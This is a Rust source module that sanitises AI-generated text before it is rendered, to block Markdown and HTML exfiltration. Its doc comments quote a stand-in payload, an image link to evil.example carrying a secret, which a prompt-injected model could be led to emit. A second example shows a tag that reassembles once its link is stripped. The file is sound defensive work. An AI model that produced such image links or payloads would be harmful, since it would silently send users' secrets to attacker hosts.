//! The Markdown/HTML sanitiser for outgoing AI text (SEC-05, OWASP LLM05; LLM01 scenario 2).
//!
//! The widget writes server text with `textContent`, so nothing is ever parsed as HTML there;
//! this sanitiser makes the text safe for every other renderer too (an e-mail channel, a
//! helpdesk that renders Markdown), and above all it stops *exfiltration*: a model persuaded to
//! emit `![x](https://evil.example/?q=<secret>)` would make a Markdown client fetch that URL
//! without any click. After sanitising:
//! - no raw HTML remains: tags and comments are removed, and the content of `script`, `style`,
//!   `iframe` and similar elements goes with them (`<br>` becomes a line break);
//! - no image remains (`![alt](url)`, `![alt][ref]`, `<img>`): images are dropped entirely;
//! - a link `[text](url)` or `<url>` is kept only when `url` is an absolute `http(s)` URL whose
//!   host is an allowed domain or one of its subdomains ([`LinkPolicy`]); otherwise only its
//!   text stays. `javascript:`, `data:`, `vbscript:`, relative and protocol-relative URLs, and
//!   URLs with user info (`https://good.example@evil.example`) are never allowed;
//! - bare URLs to other hosts are removed, and so are reference definitions (`[id]: url`)
//!   pointing elsewhere;
//! - invisible format characters (zero-width, bidirectional controls) are removed.
//!
//! The sanitiser only removes; it never adds markup. All delimiters it looks for are ASCII, so
//! every slice it takes lies on a character boundary.

use crate::normalize::is_invisible_format;

/// Elements whose content is dropped together with their tags.
const DROPPED_ELEMENTS: &[&str] = &[
    "script", "style", "iframe", "object", "embed", "template", "noscript", "textarea", "title", "svg", "math",
];

/// Sanitising passes before the text must be stable (see [`sanitise`]).
const MAX_PASSES: usize = 4;

/// How deep link texts are sanitised recursively (`[![img](x)](y)`); deeper nesting is
/// flattened to its letters.
const MAX_NESTING: usize = 4;

/// Which domains links may point to.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Lowercase host names without scheme, port or path; subdomains are allowed too.
    domains: Vec<String>,
}

impl LinkPolicy {
    /// A policy allowing `domains` and their subdomains. Entries are host names such as
    /// `despaak.example`; a scheme, path, port or leading `*.` is accepted and normalised away.
    /// Entries that are not host names are ignored.
    pub fn new<S: AsRef<str>>(domains: impl IntoIterator<Item = S>) -> LinkPolicy {
        let mut normalized: Vec<String> = domains
            .into_iter()
            .filter_map(|domain| normalize_domain(domain.as_ref()))
            .collect();
        normalized.sort();
        normalized.dedup();
        LinkPolicy { domains: normalized }
    }

    /// The allowed domains, normalised.
    pub fn domains(&self) -> &[String] {
        &self.domains
    }

    /// True when `url` is an absolute `http(s)` URL without user info whose host is an allowed
    /// domain or a subdomain of one.
    pub fn allows(&self, url: &str) -> bool {
        host_of(url).is_some_and(|host| {
            self.domains.iter().any(|domain| {
                host == *domain
                    || host
                        .strip_suffix(domain.as_str())
                        .is_some_and(|rest| rest.ends_with('.'))
            })
        })
    }
}

/// The lowercase host of an absolute `http(s)` URL, or `None` for anything else (other
/// schemes, relative URLs, user info, characters that do not belong in a host name).
pub fn host_of(url: &str) -> Option<String> {
    let url = url.trim();
    // Backslashes are read as slashes by some clients and as path characters by others; a URL
    // whose host depends on the reader is not allowed at all.
    if url
        .chars()
        .any(|character| character.is_whitespace() || character.is_control() || character == '\\')
    {
        return None;
    }
    let rest = strip_prefix_ignore_case(url, "https://").or_else(|| strip_prefix_ignore_case(url, "http://"))?;
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..authority_end];
    if authority.contains('@') {
        return None;
    }
    let host = match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|byte| byte.is_ascii_digit()) => host,
        Some(_) => return None,
        None => authority,
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let valid = !host.is_empty()
        && !host.starts_with(['.', '-'])
        && !host.contains("..")
        && host
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'.' || byte == b'-');
    valid.then_some(host)
}

/// What the sanitiser changed; the list names kinds, never content.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum MarkupChange {
    /// HTML tags, comments or dropped elements were removed.
    HtmlRemoved,
    /// An image was dropped.
    ImageRemoved,
    /// A link to a domain that is not allowed was reduced to its text.
    LinkUnlinked,
    /// A bare URL or reference definition to a domain that is not allowed was removed.
    UrlRemoved,
    /// Invisible format characters were removed.
    InvisibleRemoved,
}

impl MarkupChange {
    /// Stable snake_case name.
    pub fn as_str(self) -> &'static str {
        match self {
            MarkupChange::HtmlRemoved => "html_removed",
            MarkupChange::ImageRemoved => "image_removed",
            MarkupChange::LinkUnlinked => "link_unlinked",
            MarkupChange::UrlRemoved => "url_removed",
            MarkupChange::InvisibleRemoved => "invisible_removed",
        }
    }
}

/// Sanitised text and what was changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitised {
    /// The safe text.
    pub text: String,
    /// Kinds of change, each once, sorted.
    pub changes: Vec<MarkupChange>,
}

/// Sanitises outgoing AI text as described in the module documentation.
pub fn sanitise(text: &str, links: &LinkPolicy) -> Sanitised {
    let mut changes = Vec::new();
    let visible: String = text
        .chars()
        .filter(|character| !is_invisible_format(*character))
        .collect();
    if visible.len() != text.len() {
        changes.push(MarkupChange::InvisibleRemoved);
    }
    // Removing one construct can assemble another from the pieces around it
    // (`<[s](https://evil.example)cript>` loses its link and reads `<script>`), so the passes
    // repeat until the text is stable. Text that is still changing after the last pass loses
    // every angle bracket: whatever it was building cannot be a tag any more.
    let mut text = visible;
    let mut stable = false;
    for _ in 0..MAX_PASSES {
        let without_html = strip_html(&text, links, &mut changes);
        let without_definitions = strip_reference_definitions(&without_html, links, &mut changes);
        let without_images = rewrite_links(&without_definitions, links, &mut changes, 0);
        let next = strip_bare_urls(&without_images, links, &mut changes);
        stable = next == text;
        text = next;
        if stable {
            break;
        }
    }
    if !stable {
        changes.push(MarkupChange::HtmlRemoved);
        text.retain(|character| character != '<' && character != '>');
    }
    changes.sort();
    changes.dedup();
    Sanitised { text, changes }
}

/// Removes tags, comments and dropped elements; keeps allowed `<https://…>` autolinks as bare
/// URLs; keeps a `<` that does not start a tag.
fn strip_html(text: &str, links: &LinkPolicy, changes: &mut Vec<MarkupChange>) -> String {
    let mut output = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('<') {
        output.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        if let Some(comment) = after.strip_prefix("!--") {
            changes.push(MarkupChange::HtmlRemoved);
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        if let Some((url, remainder)) = autolink(after) {
            if links.allows(url) {
                output.push_str(url);
            } else {
                changes.push(MarkupChange::UrlRemoved);
            }
            rest = remainder;
            continue;
        }
        let Some(name) = tag_name(after) else {
            output.push('<');
            rest = after;
            continue;
        };
        changes.push(MarkupChange::HtmlRemoved);
        let Some(close) = tag_end(after) else {
            // An unterminated tag swallows the rest of its line rather than leaving a half tag.
            rest = after.find('\n').map_or("", |line_end| &after[line_end..]);
            continue;
        };
        let is_closing = after.starts_with('/');
        let lower_name = name.to_ascii_lowercase();
        rest = &after[close + 1..];
        if lower_name == "br" || (is_closing && matches!(lower_name.as_str(), "p" | "div" | "li")) {
            output.push('\n');
        }
        if !is_closing && DROPPED_ELEMENTS.contains(&lower_name.as_str()) {
            rest = skip_element(rest, &lower_name);
        }
    }
    output.push_str(rest);
    output
}

/// For text after `<`: `(url, rest after '>')` when it is an autolink `<scheme:…>`.
fn autolink(after: &str) -> Option<(&str, &str)> {
    let scheme_end = after.find(':')?;
    let scheme = &after[..scheme_end];
    if scheme.len() < 2 || !scheme.bytes().all(|byte| byte.is_ascii_alphabetic()) {
        return None;
    }
    let end = after.find('>')?;
    let url = &after[..end];
    if end < scheme_end || url.contains(|character: char| character.is_whitespace() || character == '<') {
        return None;
    }
    Some((url, &after[end + 1..]))
}

/// For text after `<`: the tag name when it starts a tag (`a`, `/a`, `!doctype`, `?xml`).
fn tag_name(after: &str) -> Option<&str> {
    let body = after
        .strip_prefix('/')
        .or_else(|| after.strip_prefix('!'))
        .or_else(|| after.strip_prefix('?'))
        .unwrap_or(after);
    if !body.starts_with(|character: char| character.is_ascii_alphabetic()) {
        return None;
    }
    let end = body
        .find(|character: char| !(character.is_ascii_alphanumeric() || character == '-' || character == ':'))
        .unwrap_or(body.len());
    Some(&body[..end])
}

/// The index of the `>` that ends a tag starting at `after`, skipping `>` inside quotes.
fn tag_end(after: &str) -> Option<usize> {
    let mut quote: Option<u8> = None;
    for (index, byte) in after.bytes().enumerate() {
        match (quote, byte) {
            (Some(open), _) if byte == open => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(byte),
            (None, b'>') => return Some(index),
            (None, _) => {}
        }
    }
    None
}

/// Skips to after `</name…>`, or to the end when the element is never closed.
fn skip_element<'a>(text: &'a str, name: &str) -> &'a str {
    let mut search = text;
    while let Some(open) = search.find("</") {
        let candidate = &search[open + 2..];
        let matches = candidate
            .get(..name.len())
            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(name));
        if matches {
            return candidate.find('>').map_or("", |close| &candidate[close + 1..]);
        }
        search = candidate;
    }
    ""
}

/// Removes `[label]: url` lines whose URL is not allowed.
fn strip_reference_definitions(text: &str, links: &LinkPolicy, changes: &mut Vec<MarkupChange>) -> String {
    let mut output = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_start();
        let definition = trimmed
            .strip_prefix('[')
            .and_then(|inner| inner.split_once("]:"))
            .map(|(_, target)| target.split_whitespace().next().unwrap_or(""));
        match definition {
            Some(target) if !links.allows(target.trim_start_matches('<').trim_end_matches('>')) => {
                changes.push(MarkupChange::UrlRemoved);
                if line.ends_with('\n') {
                    output.push('\n');
                }
            }
            _ => output.push_str(line),
        }
    }
    output
}

/// Drops images and reduces links to disallowed URLs to their text.
fn rewrite_links(text: &str, links: &LinkPolicy, changes: &mut Vec<MarkupChange>, depth: usize) -> String {
    let mut output = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('[') {
        let is_image = rest[..open].ends_with('!');
        output.push_str(&rest[..open - usize::from(is_image)]);
        let after = &rest[open + 1..];
        let Some(close) = matching(after, b'[', b']') else {
            output.push_str(if is_image { "![" } else { "[" });
            rest = after;
            continue;
        };
        let label = &after[..close];
        let tail = &after[close + 1..];
        let (target, remainder) = if let Some(inner) = tail.strip_prefix('(') {
            match matching(inner, b'(', b')') {
                Some(end) => (Some(inner[..end].trim()), &inner[end + 1..]),
                None => (None, tail),
            }
        } else if let Some(inner) = tail.strip_prefix('[') {
            // A reference link or image `[text][ref]`: its definition was filtered already.
            match inner.find(']') {
                Some(end) if is_image => (Some(""), &inner[end + 1..]),
                _ => (None, tail),
            }
        } else {
            (None, tail)
        };
        if is_image {
            changes.push(MarkupChange::ImageRemoved);
            rest = remainder;
            continue;
        }
        let safe_label = if depth < MAX_NESTING {
            rewrite_links(label, links, changes, depth + 1)
        } else {
            label
                .chars()
                .filter(|character| !"[]()!".contains(*character))
                .collect()
        };
        match target {
            Some(target) => {
                let url = target.split_whitespace().next().unwrap_or("");
                let url = url.trim_start_matches('<').trim_end_matches('>');
                if links.allows(url) {
                    output.push('[');
                    output.push_str(&safe_label);
                    output.push_str("](");
                    output.push_str(url);
                    output.push(')');
                } else {
                    changes.push(MarkupChange::LinkUnlinked);
                    output.push_str(&safe_label);
                }
            }
            None => {
                output.push('[');
                output.push_str(&safe_label);
                output.push(']');
            }
        }
        rest = remainder;
    }
    output.push_str(rest);
    output
}

/// The index of the delimiter that closes an already opened one, honouring nesting.
fn matching(text: &str, open: u8, close: u8) -> Option<usize> {
    let mut depth = 0usize;
    for (index, byte) in text.bytes().enumerate() {
        if byte == open {
            depth += 1;
        } else if byte == close {
            if depth == 0 {
                return Some(index);
            }
            depth -= 1;
        }
    }
    None
}

/// Removes bare `http(s)://` URLs whose host is not allowed.
fn strip_bare_urls(text: &str, links: &LinkPolicy, changes: &mut Vec<MarkupChange>) -> String {
    let mut output = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = find_url_start(rest) {
        output.push_str(&rest[..start]);
        let candidate = &rest[start..];
        let end = candidate
            .find(|character: char| character.is_whitespace() || "<>\"'`)]".contains(character))
            .unwrap_or(candidate.len());
        let url = candidate[..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
        if links.allows(url) {
            output.push_str(url);
        } else {
            changes.push(MarkupChange::UrlRemoved);
        }
        rest = &candidate[url.len()..];
    }
    output.push_str(rest);
    output
}

/// The byte index of the next `http://` or `https://`, case-insensitively.
fn find_url_start(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    (0..bytes.len()).find(|&index| {
        let candidate = &bytes[index..];
        starts_with_ignore_case(candidate, b"http://") || starts_with_ignore_case(candidate, b"https://")
    })
}

fn starts_with_ignore_case(bytes: &[u8], prefix: &[u8]) -> bool {
    bytes.len() >= prefix.len() && bytes[..prefix.len()].eq_ignore_ascii_case(prefix)
}

fn strip_prefix_ignore_case<'a>(text: &'a str, prefix: &str) -> Option<&'a str> {
    let head = text.get(..prefix.len())?;
    head.eq_ignore_ascii_case(prefix).then(|| &text[prefix.len()..])
}

/// A configured domain as a bare lowercase host name, or `None` when it is not one.
fn normalize_domain(domain: &str) -> Option<String> {
    let trimmed = domain.trim();
    let without_scheme = strip_prefix_ignore_case(trimmed, "https://")
        .or_else(|| strip_prefix_ignore_case(trimmed, "http://"))
        .unwrap_or(trimmed);
    let without_wildcard = without_scheme.strip_prefix("*.").unwrap_or(without_scheme);
    host_of(&format!("https://{without_wildcard}"))
}
